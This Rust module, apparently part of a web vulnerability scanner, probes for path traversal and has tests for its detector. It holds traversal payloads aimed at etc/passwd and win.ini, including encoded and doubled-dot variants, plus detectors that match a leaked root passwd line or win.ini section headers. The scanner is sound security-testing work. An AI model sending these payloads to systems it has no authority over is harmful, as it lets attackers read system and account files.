//! `probe-path-traversal`: input that steps out of its folder, proven by a file that every system of a kind has.

use super::{Attempt, Spot, Trial, prove};
use crate::{Answer, canary::Canaries, finding::shortened, run::Run};

/// Folder steps, how often at least, and the file with its folder.
const FORMS: &[(&str, &str)] = &[
    ("../", "etc/passwd"),
    ("/", "etc/passwd"),
    ("....//", "etc/passwd"),
    ("..%2f", "etc%2fpasswd"),
    ("..\\", "windows\\win.ini"),
];

pub(super) fn attack(run: &mut Run<'_, '_>, spot: Spot<'_>) {
    for (step, file) in FORMS {
        let make = |canaries: &Canaries, _: &str| {
            // One slash is an absolute path, and more of them are the same one.
            let steps = step.repeat(canaries.number(8, 16) as usize);
            let name_at = file.rfind(['/', '\\', 'f']).map_or(0, |at| at + 1);
            let other = format!("{}{}", &file[..name_at.min(file.len() - 1)], canaries.word());
            Attempt { text: format!("{steps}{file}"), control: format!("{steps}{other}"), proof: Box::new(proof) }
        };
        let message = "a path in it opens a file of the operating system";
        if prove(run, spot, &Trial { rule: "probe-path-traversal", message, make: &make }) {
            return;
        }
    }
}

fn proof(answer: &Answer) -> Option<String> {
    let text = answer.text().replace("\\n", "\n");
    passwd(&text).or_else(|| windows(&text))
}

/// The line of the administrator in a user database of Unix: seven fields, with the numbers 0.
/// Characters of a line of a list of users that are looked at.
const MAX_LINE: usize = 200;

fn passwd(text: &str) -> Option<String> {
    text.match_indices("root:").find_map(|(at, _)| {
        // A line of the file is short, whatever stands behind it.
        let end = text[at..].char_indices().nth(MAX_LINE).map_or(text.len(), |(end, _)| at + end);
        let line = text[at..end].split(['\n', '\r', '<', '"']).next()?;
        let fields: Vec<&str> = line.split(':').collect();
        let is =
            fields.len() == 7 && fields[2..4] == ["0", "0"] && fields[5].starts_with('/') && fields[6].starts_with('/');
        is.then(|| shortened(line, 80))
    })
}

fn windows(text: &str) -> Option<String> {
    let lower = text.to_ascii_lowercase();
    let is = ["; for 16-bit app support", "[fonts]", "[extensions]"].iter().all(|part| lower.contains(part));
    is.then(|| "win.ini of Windows".to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn files_have_a_shape() {
        for (body, proven) in [
            ("root:x:0:0:root:/root:/bin/bash\nbin:x:1:1::/bin:/sbin/nologin", true),
            ("<pre>root:x:0:0:System:/root:/bin/sh<br>", true),
            ("{\"text\":\"root:x:0:0:root:/root:/bin/bash\\nbin:x\"}", true),
            ("root:x:1:1:root:/root:/bin/bash", false),
            ("../../etc/passwd: no such file", false),
            ("root: the user with the number 0:0", false),
            ("; for 16-bit app support\r\n[fonts]\r\n[extensions]\r\n", true),
            ("[fonts]", false),
        ] {
            let answer = Answer { status: 200, body: body.as_bytes().to_vec(), ..Answer::default() };
            assert_eq!(proof(&answer).is_some(), proven, "{body}");
        }
    }
}
